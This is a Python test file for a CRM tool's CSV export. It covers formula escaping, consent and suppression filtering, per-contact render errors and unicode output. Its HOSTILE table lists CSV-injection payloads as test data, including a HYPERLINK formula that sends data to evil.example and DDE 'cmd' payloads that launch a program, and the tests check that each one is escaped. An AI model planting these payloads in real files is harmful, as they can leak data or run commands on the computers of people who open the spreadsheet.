"""Offline CSV exports: formula-safe cells, consent and suppression for the chosen channel, one contact's
render error does not lose the others, and unicode survives (with a BOM for Excel on request)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from clarion.cli.main import app as cli
from clarion.domain.consent import Channel, ConsentStatus, SuppressionReason
from clarion.domain.errors import FieldError, NotFound
from clarion.domain.profiles import ProfilePatch
from clarion.services.export import CONTACT_COLUMNS, export_csv, safe_cell
from clarion.services.identity import Identifiers
from clarion.services.segments import SegmentService
from clarion.services.templates import TemplateService
from clarion.store.schema import contacts

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
LETTER = {"default": {"export": {"columns": {
    "salutation": "Dear {{ contact.first_name | default('customer') }}",
    "note": "{{ contact.attributes.note | default('') }}",
    "average": "{{ (contact.attributes.total / contact.attributes.orders) | round(2) }}"}}},
    "variants": {"fr": {"export": {"columns": {
        "salutation": "Cher {{ contact.first_name }}", "note": "{{ contact.attributes.note | default('') }}",
        "average": "{{ (contact.attributes.total / contact.attributes.orders) | round(2) }}"}}}}}

# Cells a spreadsheet would run as formulas (OWASP CSV injection), and what the file must say instead.
HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "   =1+1": "'   =1+1",
    "\n@x": "'\n@x",
    "\u00a0=1": "'\u00a0=1",  # a no-break space is white space too
    "Ana = friend": "Ana = friend",  # only the start matters
    "O'Brien": "O'Brien",
    "-12.5": "-12.5",  # plain numbers cannot carry a formula
    "+14155550101": "+14155550101",
    "": "",
}


def add(app, email: str | None, first_name: str, *, phone: str | None = None, consent: Channel | None = None,
        **fields) -> int:
    with app.store.write() as conn:
        contact_id = app.contacts.identify(conn, Identifiers(email=email, phone=phone, external_id=f"x-{first_name}"),
                                           ProfilePatch(first_name=first_name, timezone="UTC", **fields))
        if consent is not None:
            app.consent.record(conn, contact_id, consent, ConsentStatus.OPTED_IN, source="test")
    return contact_id


def setup(app, rule: str = "external_id exists", template=LETTER) -> None:
    with app.store.write() as conn:
        SegmentService(app.settings).create(conn, "everyone", rule)
        TemplateService().save(conn, "letter", template)


def export(app, **options) -> tuple[list[dict[str, str]], object]:
    out = io.StringIO(newline="")
    with app.store.read() as conn:
        result = export_csv(conn, out, segment="everyone", template="letter", settings=app.settings, now=NOW,
                            **options)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    return rows, result


@pytest.mark.parametrize(("given", "written"), list(HOSTILE.items()))
def test_safe_cell(given, written):
    assert safe_cell(given) == written


def test_hostile_profile_values_and_rendered_columns_are_written_as_text(app):
    # given contacts whose last names (profile columns) and notes (rendered by the template) are formulas
    corpus = [h for h in HOSTILE if h]
    for index, hostile in enumerate(corpus):
        add(app, f"p{index}@example.com", f"P{index}", last_name=hostile,
            attributes={"note": hostile, "total": 10, "orders": 2})
    setup(app)
    # when they are exported
    rows, result = export(app)
    # then each hostile value reads back exactly as the table says, in both places
    assert result.written == len(corpus) and result.errors == []
    for row in rows:
        hostile = corpus[int(row["first_name"][1:])]
        assert row["last_name"] == row["note"] == HOSTILE[hostile], hostile
    # and no cell of the file starts a formula, other than a plain number
    for row in rows:
        for value in row.values():
            start = value.lstrip()[:1]
            assert value.startswith("'") or start not in ("=", "+", "-", "@") or value in ("-12.5", "+14155550101")
            assert value[:1] not in ("\t", "\r")


def test_the_file_has_the_contact_columns_then_the_templates_in_its_variant(app):
    ana = add(app, "ana@example.com", "Ana", phone="+14155550101", locale="fr-FR", country="FR", city="Lyon",
              attributes={"note": "VIP", "total": 30, "orders": 4})
    setup(app)
    rows, result = export(app)
    assert result.columns[:len(CONTACT_COLUMNS)] == list(CONTACT_COLUMNS)
    assert sorted(result.columns[len(CONTACT_COLUMNS):]) == ["average", "note", "salutation"]
    (row,) = rows
    assert row["id"] == str(ana) and row["phone"] == "+14155550101" and row["city"] == "Lyon"
    assert (row["salutation"], row["note"], row["average"]) == ("Cher Ana", "VIP", "7.5")


def test_the_template_columns_keep_the_authors_order(app):
    # PostgreSQL stores template documents as JSONB, which sorts object keys (shorter first): the columns are
    # stored as [name, text] pairs so that the order the author wrote survives
    add(app, "ana@example.com", "Ana", attributes={"note": "VIP", "total": 30, "orders": 4})
    setup(app)
    _, result = export(app)
    assert result.columns[len(CONTACT_COLUMNS):] == ["salutation", "note", "average"]


def test_a_call_list_keeps_only_reachable_consenting_unsuppressed_phones(app):
    # given: voice consent with a phone; a phone without consent; consent but a suppressed phone; no phone
    calls = add(app, "a@example.com", "Ana", phone="+14155550101", consent=Channel.VOICE,
                attributes={"total": 1, "orders": 1})
    add(app, "b@example.com", "Bo", phone="+14155550102", consent=Channel.SMS, attributes={"total": 1, "orders": 1})
    add(app, "c@example.com", "Cy", phone="+14155550103", consent=Channel.VOICE, attributes={"total": 1, "orders": 1})
    add(app, "d@example.com", "Di", consent=Channel.VOICE, attributes={"total": 1, "orders": 1})
    with app.store.write() as conn:
        app.consent.suppress(conn, "phone", "+14155550103", SuppressionReason.MANUAL)
    setup(app)
    # when a call list is exported, then only Ana is on it, and each other is counted with its reason
    rows, result = export(app, channel="voice")
    assert [row["id"] for row in rows] == [str(calls)]
    assert result.skipped == {"no_consent": 1, "suppressed": 1, "no_address": 1} and result.members == 4
    # and a postal export (no channel) takes every member
    rows, result = export(app)
    assert len(rows) == 4 and result.skipped == {}


def test_email_consent_for_a_topic(app):
    add(app, "a@example.com", "Ana", consent=Channel.EMAIL, attributes={"total": 1, "orders": 1})
    bo = add(app, "b@example.com", "Bo", consent=Channel.EMAIL, attributes={"total": 1, "orders": 1})
    with app.store.write() as conn:
        app.consent.create_topic(conn, "offers", "Offers")
        app.consent.record(conn, bo, Channel.EMAIL, ConsentStatus.OPTED_OUT, topic="offers", source="test")
    setup(app)
    rows, result = export(app, channel="email", topic="offers")
    assert [row["first_name"] for row in rows] == ["Ana"] and result.skipped == {"no_consent": 1}


def test_one_contacts_render_error_is_listed_and_the_others_are_written(app):
    # given three contacts, the second with no orders (the template divides by them)
    add(app, "a@example.com", "Ana", attributes={"total": 10, "orders": 2})
    broken = add(app, "b@example.com", "Bo", attributes={"total": 10, "orders": 0})
    add(app, "c@example.com", "Cy", attributes={"total": 9, "orders": 3})
    setup(app)
    rows, result = export(app)
    # then Ana and Cy are in the file, and Bo's error names him, the column and why
    assert [row["first_name"] for row in rows] == ["Ana", "Cy"]
    assert result.written == 2 and result.skipped == {"render_error": 1}
    (error,) = result.errors
    assert error["contact_id"] == broken and error["part"] == "export.columns.average"
    assert "division by zero" in error["reason"]


def test_merged_profiles_are_not_exported(app):
    ana = add(app, "a@example.com", "Ana", attributes={"total": 1, "orders": 1})
    old = add(app, "old@example.com", "Old", attributes={"total": 1, "orders": 1})
    with app.store.write() as conn:
        conn.execute(update(contacts).where(contacts.c.id == old).values(merged_into=ana))
    setup(app)
    rows, _ = export(app)
    assert [row["id"] for row in rows] == [str(ana)]


def test_bad_requests_are_refused_before_anything_is_written(app):
    setup(app)
    with app.store.read() as conn:
        with pytest.raises(FieldError, match="channel"):
            export_csv(conn, io.StringIO(), segment="everyone", template="letter", settings=app.settings,
                       channel="push")
        with pytest.raises(FieldError, match="topic"):
            export_csv(conn, io.StringIO(), segment="everyone", template="letter", settings=app.settings,
                       topic="offers")
        with pytest.raises(NotFound, match="segment"):
            export_csv(conn, io.StringIO(), segment="nobody", template="letter", settings=app.settings)
    with app.store.write() as conn:
        TemplateService().save(conn, "mail", {"default": {"sms": {"text": "hi"}}})
        TemplateService().save(conn, "clash", {"default": {"export": {"columns": {"email": "x"}}}})
    with app.store.read() as conn:
        with pytest.raises(FieldError, match="no export part"):
            export_csv(conn, io.StringIO(), segment="everyone", template="mail", settings=app.settings)
        with pytest.raises(FieldError, match="repeats a contact column"):
            export_csv(conn, io.StringIO(), segment="everyone", template="clash", settings=app.settings)


# -- the command -------------------------------------------------------------------------------------------

runner = CliRunner()
NAMES = ["Chloé", "大輔", "Zoë 🎉", "Łukasz", "Søren"]


@pytest.mark.parametrize("excel", [False, True])
def test_the_command_round_trips_unicode_with_a_bom_for_excel(app, tmp_path, excel):
    # given contacts with accented, CJK and emoji names
    for index, name in enumerate(NAMES):
        add(app, f"u{index}@example.com", name, attributes={"note": f"{name} ✓", "total": 1, "orders": 1})
    setup(app)
    out = tmp_path / "letters.csv"
    # when the command exports them
    args = ["--database-url", app.settings.database_url, "export", "--segment", "everyone", "--template", "letter",
            "--out", str(out), "--json", *(["--excel"] if excel else [])]
    result = runner.invoke(cli, args)
    # then it reports the counts, and the file reads back with the same names (a BOM first only with --excel)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["written"] == len(NAMES)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") is excel
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [row["first_name"] for row in rows] == NAMES
    assert [row["note"] for row in rows] == [f"{name} ✓" for name in NAMES]
    assert not (tmp_path / "letters.csv.partial").exists()


def test_the_command_fails_in_one_line_and_leaves_no_file(app, tmp_path):
    setup(app)
    out = tmp_path / "calls.csv"
    result = runner.invoke(cli, ["--database-url", app.settings.database_url, "export", "--segment", "nope",
                                 "--template", "letter", "--out", str(out)])
    assert result.exit_code == 1 and "segment 'nope' not found" in result.output
    assert not out.exists() and not (tmp_path / "calls.csv.partial").exists()


def test_the_command_shows_counts_and_errors_without_json(app, tmp_path):
    add(app, "a@example.com", "Ana", phone="+14155550101", consent=Channel.VOICE, attributes={"total": 1, "orders": 0})
    add(app, "b@example.com", "Bo", phone="+14155550102", consent=Channel.VOICE, attributes={"total": 1, "orders": 1})
    setup(app)
    out = tmp_path / "calls.csv"
    result = runner.invoke(cli, ["--database-url", app.settings.database_url, "export", "--segment", "everyone",
                                 "--template", "letter", "--out", str(out), "--channel", "voice"])
    assert result.exit_code == 0, result.output
    assert "written" in result.output and "render_error" in result.output and "export.columns.average" in result.output
